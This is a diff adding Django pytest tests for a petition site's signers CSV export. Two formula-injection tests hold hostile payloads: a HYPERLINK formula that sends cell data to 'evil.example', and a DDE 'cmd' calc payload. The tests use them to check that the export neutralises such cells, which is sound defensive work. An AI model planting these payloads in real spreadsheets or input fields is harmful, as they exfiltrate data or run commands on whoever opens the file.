@@ -1,0 +1,260 @@
+"""The signers CSV (`manage.py export_signatures` and /admin/petitions/<slug>/export.csv): what it holds and how."""
+
+import csv
+import io
+from collections.abc import Iterator
+
+import pytest
+from django.core.management import CommandError, call_command
+from django.http import StreamingHttpResponse
+
+from signatures import services
+from signatures.export import export_rows
+from signatures.models import Signature
+from tests.factories import make_affiliation, make_petition, make_roster_entry, make_signature, make_user
+from verification.matching import approve_claim, reject_claim
+
+pytestmark = pytest.mark.django_db
+
+HEADER = (
+    "full_name,email,affiliation,verification,method,roster_name,role,organisation,comment,"
+    "signed_at,confirmed_at,verified_at,version"
+)
+V = Signature.Verification
+
+
+@pytest.fixture
+def artists():
+    return make_affiliation("sora-alpha-artist", email_domains="example.com")
+
+
+@pytest.fixture
+def petition(artists):
+    return make_petition(slug="open-letter", affiliations=[artists])
+
+
+@pytest.fixture
+def sign(settled):
+    """A signature whose claim (if any) was checked, as the workers would after the commit."""
+
+    def sign(petition, full_name, email, **fields) -> Signature:
+        with settled():
+            signature = make_signature(petition, full_name=full_name, email=email, **fields)
+        signature.refresh_from_db()
+        return signature
+
+    return sign
+
+
+@pytest.fixture
+def signers(petition, artists, sign):
+    """One signature in each state that matters to the export."""
+    make_roster_entry(artists, "Roster Person", "listed@studio.org")
+    moderator = make_user("moderator@example.net")
+    made = {
+        "by domain": sign(petition, "By Domain", "domain@example.com", affiliation=artists),
+        "by roster": sign(petition, "By Roster", "listed@studio.org", affiliation=artists),
+        "in review": sign(petition, "Roster Person", "review@elsewhere.net", affiliation=artists),
+        "unverified": sign(petition, "Not Listed", "nobody@elsewhere.net", affiliation=artists),
+        "no claim": sign(petition, "No Claim", "noclaim@elsewhere.net"),
+        "unconfirmed": sign(petition, "Unconfirmed", "unconfirmed@example.com", affiliation=artists, confirmed=False),
+        "withdrawn": sign(petition, "Withdrawn", "withdrawn@example.com", affiliation=artists),
+        "rejected signature": sign(petition, "Spammer", "spam@example.com", affiliation=artists),
+        "rejected claim": sign(petition, "Claim Refused", "refused@example.com", affiliation=artists),
+    }
+    services.withdraw(made["withdrawn"].pk)
+    services.reject(made["rejected signature"])
+    reject_claim(made["rejected claim"], moderator)
+    return made
+
+
+def exported(petition, *args: str) -> str:
+    out = io.StringIO()
+    call_command("export_signatures", petition.slug, *args, stdout=out)
+    return out.getvalue()
+
+
+def parsed(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def names(text: str) -> list[str]:
+    return [row["full_name"] for row in parsed(text)]
+
+
+def test_header_row_names_the_columns_in_the_contract_order(petition):
+    text = exported(petition)
+    assert text.splitlines()[0] == HEADER
+    assert list(csv.reader(io.StringIO(text))) == [HEADER.split(",")]
+
+
+def test_default_export_is_confirmed_and_verified_signers_only(petition, signers):
+    assert names(exported(petition)) == ["By Domain", "By Roster"]
+
+
+def test_needs_review_filter_exports_the_review_queue(petition, signers):
+    assert names(exported(petition, "--verification", "needs_review")) == ["Roster Person"]
+
+
+def test_all_filter_exports_every_confirmed_signer(petition, signers):
+    assert names(exported(petition, "--verification", "all")) == [
+        "By Domain",
+        "By Roster",
+        "Roster Person",
+        "Not Listed",
+        "No Claim",
+        "Claim Refused",
+    ]
+
+
+@pytest.mark.parametrize("verification", ["all", "verified", "needs_review", "unverified", "none", "rejected"])
+def test_unconfirmed_withdrawn_and_rejected_signatures_are_never_exported(petition, signers, verification):
+    text = exported(petition, "--verification", verification)
+    for name in ("Unconfirmed", "Withdrawn", "Spammer"):
+        assert name not in text
+
+
+def test_rows_carry_the_claim_its_evidence_and_the_dates(petition, signers):
+    by_roster = signers["by roster"]
+    rows = {row["full_name"]: row for row in parsed(exported(petition, "--verification", "all"))}
+    assert rows["By Roster"] == {
+        "full_name": "By Roster",
+        "email": "listed@studio.org",
+        "affiliation": "sora-alpha-artist",
+        "verification": "verified",
+        "method": "email",
+        "roster_name": "Roster Person",
+        "role": "",
+        "organisation": "",
+        "comment": "",
+        "signed_at": by_roster.created_at.isoformat(),
+        "confirmed_at": by_roster.confirmed_at.isoformat(),
+        "verified_at": by_roster.verified_at.isoformat(),
+        "version": "1",
+    }
+    assert (rows["By Domain"]["method"], rows["By Domain"]["roster_name"]) == ("email_domain", "")
+    assert (rows["No Claim"]["affiliation"], rows["No Claim"]["verification"], rows["No Claim"]["method"]) == (
+        "",
+        "none",
+        "",
+    )
+    assert (rows["Claim Refused"]["verification"], rows["Claim Refused"]["method"]) == ("rejected", "moderator")
+    assert rows["Not Listed"]["verified_at"] == ""
+
+
+def test_version_is_the_text_the_signer_saw(petition, sign):
+    sign(petition, "Early", "early@example.org")
+    petition.body = "A changed text."
+    petition.save()
+    petition.record_version()
+    sign(petition, "Late", "late@example.org")
+    rows = parsed(exported(petition, "--verification", "all"))
+    assert [(row["full_name"], row["version"]) for row in rows] == [("Early", "1"), ("Late", "2")]
+
+
+def test_moderator_approval_shows_the_roster_entry_chosen(petition, artists, sign):
+    make_roster_entry(artists, "Jane Doe")
+    signature = sign(petition, "Jane Doe", "jane@elsewhere.net", affiliation=artists)
+    approve_claim(signature, make_user("moderator@example.net"))
+    [row] = parsed(exported(petition))
+    assert (row["verification"], row["method"], row["roster_name"]) == ("verified", "moderator", "Jane Doe")
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("column", ["full_name", "role", "organisation", "comment"])
+def test_cells_that_start_like_a_formula_are_neutralised(petition, sign, prefix, column):
+    hostile = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"x")'
+    fields = {"full_name": "Plain Name", "role": "", "organisation": "", "comment": "", column: hostile}
+    sign(petition, fields.pop("full_name"), "hostile@example.org", **fields)
+    [row] = parsed(exported(petition, "--verification", "all"))
+    assert row[column] == "'" + hostile
+
+
+def test_email_and_roster_name_are_neutralised_too(petition, artists, sign):
+    make_roster_entry(artists, "=cmd|' /C calc'!A0", "-listed@studio.org")
+    sign(petition, "Jane Doe", "-listed@studio.org", affiliation=artists)
+    [row] = parsed(exported(petition))
+    assert (row["email"], row["roster_name"]) == ("'-listed@studio.org", "'=cmd|' /C calc'!A0")
+
+
+def test_formula_characters_inside_a_cell_are_left_alone(petition, sign):
+    sign(petition, "Ann Smith-Jones", "ann@example.org", comment="1+1=2 @ home", organisation="A & B - C")
+    [row] = parsed(exported(petition, "--verification", "all"))
+    assert (row["full_name"], row["comment"], row["organisation"]) == ("Ann Smith-Jones", "1+1=2 @ home", "A & B - C")
+
+
+def test_commas_quotes_newlines_and_non_ascii_survive_a_round_trip(petition, sign):
+    fields = {
+        "role": 'Lead "character" artist',
+        "organisation": "Núñez & Søn, 山田スタジオ",
+        "comment": 'First line,\nsecond line;\r\nthird "quoted" line ✓',
+    }
+    sign(petition, 'Doe, "Jane" Ñ', "jane@example.org", **fields)
+    [row] = parsed(exported(petition, "--verification", "all"))
+    assert row["full_name"] == 'Doe, "Jane" Ñ'
+    for column, value in fields.items():
+        assert row[column] == value
+
+
+def test_output_file_holds_the_same_bytes_as_standard_output(petition, signers, tmp_path):
+    target = tmp_path / "signers.csv"
+    call_command("export_signatures", petition.slug, "--verification", "all", "--output", str(target))
+    assert target.read_bytes() == exported(petition, "--verification", "all").encode("utf-8")
+    assert target.read_bytes().startswith(HEADER.encode() + b"\r\n")
+
+
+def test_standard_output_of_the_process_gets_the_same_utf8_bytes_as_the_file(petition, sign, tmp_path, capsysbinary):
+    sign(petition, "Núñez 山田", "nunez@example.org", comment="=1+1")
+    target = tmp_path / "signers.csv"
+    call_command("export_signatures", petition.slug, "--verification", "all", "--output", str(target))
+    call_command("export_signatures", petition.slug, "--verification", "all")
+    assert capsysbinary.readouterr().out == target.read_bytes()
+    assert "Núñez 山田".encode() in target.read_bytes()
+
+
+def test_unwritable_output_is_an_error_and_leaves_no_partial_file(petition, tmp_path):
+    target = tmp_path / "missing-folder" / "signers.csv"
+    with pytest.raises(CommandError, match="Cannot write"):
+        call_command("export_signatures", petition.slug, "--output", str(target))
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_unknown_verification_filter_is_an_error(petition, tmp_path):
+    target = tmp_path / "signers.csv"
+    with pytest.raises(CommandError, match="Unknown verification filter"):
+        call_command("export_signatures", petition.slug, "--verification", "maybe", "--output", str(target))
+    assert not target.exists()
+
+
+def test_unknown_petition_is_an_error():
+    with pytest.raises(CommandError, match="No petition"):
+        call_command("export_signatures", "no-such-letter", stdout=io.StringIO())
+
+
+def test_export_rows_is_a_lazy_iterator(petition, signers):
+    rows = export_rows(petition)
+    assert isinstance(rows, Iterator)
+    assert next(rows).rstrip("\r\n") == HEADER
+    assert len(list(rows)) == 2
+
+
+def test_export_rows_refuses_an_unknown_filter(petition):
+    with pytest.raises(ValueError, match="maybe"):
+        list(export_rows(petition, "maybe"))
+
+
+def test_admin_export_streams_the_same_csv_as_the_command(client, petition, signers):
+    client.force_login(make_user("root@example.net", superuser=True))
+    response = client.get(f"/admin/petitions/{petition.slug}/export.csv")
+    assert response.status_code == 200
+    assert isinstance(response, StreamingHttpResponse)
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert "attachment" in response["Content-Disposition"]
+    assert b"".join(response.streaming_content).decode() == exported(petition)
+
+
+def test_admin_export_takes_the_verification_filter(client, petition, signers):
+    client.force_login(make_user("root@example.net", superuser=True))
+    response = client.get(f"/admin/petitions/{petition.slug}/export.csv?verification=needs_review")
+    assert names(b"".join(response.streaming_content).decode()) == ["Roster Person"]
+    assert client.get(f"/admin/petitions/{petition.slug}/export.csv?verification=maybe").status_code == 400
